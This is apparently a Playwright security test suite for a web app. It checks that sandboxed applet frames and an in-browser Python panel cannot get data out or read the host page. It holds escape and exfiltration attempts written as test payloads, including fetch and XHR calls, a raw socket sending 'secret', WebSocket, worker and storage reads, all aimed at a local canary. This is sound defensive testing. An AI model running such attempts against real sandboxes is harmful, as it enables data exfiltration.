// What runs in a frame tries to get out, by every way that we know: the canary hears nothing, the page stays, and nothing can be read.
import { expect, test, type Person } from '../people.ts';
import { startCanary, type Canary } from '../canary.ts';
import { constants, leaving, quiet, tryAll } from '../escapes.ts';
import { pythonOn } from '../pythonPanel.ts';

// what Playwright's recorder puts into every frame keeps Python's from starting
test.use({ trace: 'off' });

let canary: Canary;
test.beforeEach(async () => {
  canary = await startCanary();
});
test.afterEach(() => canary.close());

const values = (origin: string) => constants({ C: canary.http, P: canary.tcpPort, U: canary.udpPort, A: origin });
const view = (person: Person) => person.page.locator('section.applet');

test('[AP4] the ways out are real: outside of a frame they reach the canary', async ({ page }) => {
  await page.goto(canary.http);
  canary.hits.length = 0;
  // called from no page at all, as a script of a page without any policy would be
  await page.evaluate(`(async () => { ${values('http://127.0.0.1:9')} ${tryAll(quiet)} return tried })()`);
  const paths = new Set(canary.hits);
  expect(paths.size).toBeGreaterThan(20);
  expect([...paths].join()).toContain('/fetch');
});

test('[AP4] an applet gets nothing out, and reads nothing of the page', async ({ ada, world }) => {
  const text = `/** @name Escapes */\nimport { useEffect } from 'react';\nexport default function Escapes({ onSubmit }) {\n  useEffect(() => { ${values(world.origin)} ${tryAll(quiet)} tried.then(onSubmit); }, []);\n  return <p>trying</p>;\n}\n`;
  await ada.api('PUT', '/volumes/team%2Flab/files/applets/escapes.tsx', text);
  await ada.page.context().addCookies([{ name: 'plain', value: 'secret', url: world.origin }]);
  const popups: unknown[] = [];
  ada.context.on('page', (page) => popups.push(page));
  await ada.page.goto('/v/team%2Flab/f/applets/escapes.tsx');
  const answer = view(ada).locator('details pre').first();
  await expect(answer).toBeVisible({ timeout: 30_000 });
  const learned = JSON.parse(await answer.innerText()) as Record<string, string>;
  expect(Object.keys(learned).sort()).toEqual(Object.keys(quiet).sort());
  for (const way of [
    'fetch',
    'fetch our api',
    'xhr',
    'import()',
    'eval',
    'Function',
    'webrtc',
    'webrtc of a nested frame',
    'worker',
    'cookie',
    'localStorage',
    'sessionStorage',
    'indexedDB',
    'caches',
    'files',
    'parent dom',
    'top location',
    'parent storage',
    'service worker',
  ])
    expect([way, learned[way]]).toEqual([way, expect.stringMatching(/^throws /)]);
  expect(learned).toMatchObject({ 'inline script': 'ran 0', frameElement: 'null', popup: 'null' });
  await ada.page.waitForTimeout(1000);
  expect(canary.hits).toEqual([]);
  expect(popups).toEqual([]);
});

test('[AP4] an applet cannot leave its frame, nor take the page with it', async ({ ada, world }) => {
  test.setTimeout(180_000);
  for (const [name, body] of Object.entries(leaving)) {
    const text = `/** @name Leaving */\nimport { useEffect } from 'react';\nexport default function Leaving() {\n  useEffect(() => { ${values(world.origin)} setTimeout(() => { ${body} }, 100); }, []);\n  return <p>leaving</p>;\n}\n`;
    await ada.api('PUT', `/volumes/team%2Flab/files/applets/leaving-${name.replace(/\W+/g, '-')}.tsx`, text);
    await ada.page.goto(`/v/team%2Flab/f/applets/leaving-${name.replace(/\W+/g, '-')}.tsx`);
    await expect(view(ada)).toHaveAttribute('data-state', /painted|failed|ended/, { timeout: 20_000 });
    await ada.page.waitForTimeout(700);
    expect([name, canary.hits]).toEqual([name, []]);
    expect(ada.page.url()).toContain(`${world.origin}/v/`);
  }
});

test('[AP4] Python gets nothing out', async ({ ada, world }) => {
  test.setTimeout(180_000);
  await ada.open('team/lab', 'notes/first-week.md');
  const python = await pythonOn(ada.page);
  const cell = await python.write(`import js, urllib.request, socket
from pyodide.http import pyfetch
C, A = "${canary.http}", "${world.origin}"
found = {}
async def attempt(name, make):
    try:
        value = make()
        if hasattr(value, "__await__"):
            value = await value
        found[name] = "got " + str(value)[:60]
    except BaseException as error:
        found[name] = "refused"
await attempt("fetch", lambda: js.fetch(C + "/py-fetch"))
await attempt("api", lambda: js.fetch(A + "/api/v1/me"))
await attempt("pyfetch", lambda: pyfetch(C + "/py-pyfetch"))
await attempt("urllib", lambda: urllib.request.urlopen(C + "/py-urllib"))
def connect():
    line = socket.create_connection(("127.0.0.1", ${canary.tcpPort}), 1)
    line.sendall(b"secret")
    raise OSError("what was sent is for the canary to say")
await attempt("socket", connect)
def xhr():
    x = js.XMLHttpRequest.new(); x.open("GET", C + "/py-xhr", False); x.send(None)
await attempt("xhr", xhr)
await attempt("eval", lambda: js.eval("1"))
await attempt("import", lambda: js.importScripts(C + "/py.js"))
await attempt("worker", lambda: js.Worker.new(C + "/py-worker.js"))
await attempt("indexedDB", lambda: js.indexedDB.open("x"))
for name in ("document", "window", "parent", "localStorage", "caches", "RTCPeerConnection", "WebTransport", "SharedWorker", "cookieStore"):
    await attempt(name, lambda: getattr(js, name))
js.WebSocket.new(C.replace("http", "ws") + "/py-ws")
js.EventSource.new(C + "/py-sse")
print("\\n".join(f"{name}: {value}" for name, value in found.items() if value != "refused") or "all refused", len(found))`);
  await expect(cell).toHaveAttribute('data-state', /done|failed/, { timeout: 80_000 });
  await expect(cell.getByText('all refused 19')).toBeVisible();
  await ada.page.waitForTimeout(1000);
  expect(canary.hits).toEqual([]);
});

test('[AP4] frames are served with their headers; opened in a tab they are nobody', async ({ ada, world }) => {
  for (const page of ['py', 'applet']) {
    const { status, headers } = await fetch(`${world.origin}/sandbox/${page}.html`);
    expect(status).toBe(200);
    expect(headers.get('content-security-policy')).toMatch(
      /^sandbox allow-scripts; default-src 'none'; script-src http[^ ]+\/sandbox\/[\w-]+\.js blob:/,
    );
    expect(headers.get('content-security-policy')).toContain("connect-src 'none'");
    expect(headers.get('content-security-policy')).toContain(`frame-ancestors ${world.origin}`);
    expect(headers.get('connection-allowlist')).toBe('(response-origin)');
    expect(headers.get('cross-origin-embedder-policy')).toBe('require-corp');
    await ada.page.goto(`/sandbox/${page}.html`);
    expect(await ada.page.evaluate(() => self.origin)).toBe('null');
  }
  const wasm = await fetch(`${world.origin}/pyodide/314.0.7/pyodide.asm.wasm`, {
    headers: { 'accept-encoding': 'br' },
  });
  expect([wasm.headers.get('content-encoding'), wasm.headers.get('cache-control')]).toEqual([
    'br',
    'public, max-age=31536000, immutable',
  ]);
  expect((await fetch(`${world.origin}/sandbox/other`)).status).toBe(404);
});

test('[AP4] no page runs against its own policy', async ({ ada }) => {
  test.setTimeout(180_000);
  const seen: string[] = [];
  await ada.page.exposeFunction('violated', (words: string) => seen.push(words));
  await ada.page.addInitScript(() => {
    if (self !== top) return;
    addEventListener('securitypolicyviolation', (event) => {
      const tell = (self as unknown as { violated: (words: string) => void }).violated;
      tell(`${location.pathname}: ${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  await ada.api(
    'PUT',
    '/volumes/team%2Flab/files/applets/one.tsx',
    'export default function One() { return <b>one</b>; }\n',
  );
  for (const address of [
    '/',
    '/v/team%2Flab/f/notes/first-week.md',
    '/v/team%2Flab/f/applets/one.tsx',
    '/v/team%2Flab/h',
    '/applets',
    '/memory',
    '/review',
    '/settings/account',
    '/settings/server',
    '/settings/tokens',
    '/settings/teams/lab',
  ]) {
    await ada.page.goto(address);
    await expect(ada.page.locator('main').first()).toBeVisible();
    await ada.page.waitForTimeout(400);
  }
  await ada.open('team/lab', 'notes/first-week.md');
  const python = await pythonOn(ada.page);
  await expect(await python.write('1 + 1')).toHaveAttribute('data-state', 'done', { timeout: 80_000 });
  expect(await ada.page.evaluate(() => self.crossOriginIsolated)).toBe(true);
  expect(seen).toEqual([]);
});
